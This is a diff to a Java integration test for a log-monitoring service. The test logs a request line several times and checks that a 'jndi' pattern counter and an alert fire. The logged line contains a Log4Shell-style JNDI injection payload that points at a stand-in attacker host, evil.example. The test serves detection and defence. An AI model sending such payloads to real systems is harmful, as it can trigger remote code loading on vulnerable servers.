@@ -124,7 +124,9 @@ class ServiceLogsIT {
 
     @Test
     void firesAnAlertOnALineThatLooksLikeAnAttack() {
-        logged("shop", "GET /?q=${jndi:ldap://evil.example/a} 404");
+        for (int i = 0; i < 4; i++) {
+            logged("shop", "GET /?q=${jndi:ldap://evil.example/a} 404");
+        }
 
         await("the counter")
                 .atMost(Duration.ofSeconds(60))
@@ -132,7 +134,7 @@ class ServiceLogsIT {
                         () -> assertEquals(
                                 1,
                                 vector(
-                                        "devmon_log_pattern_matches_total{service=\"shop\", pattern=\"jndi\", env=\"development\"} == 1")));
+                                        "devmon_log_pattern_matches_total{service=\"shop\", pattern=\"jndi\", env=\"development\"} == 4")));
         await("the alert")
                 .atMost(Duration.ofSeconds(60))
                 .untilAsserted(() -> assertEquals(
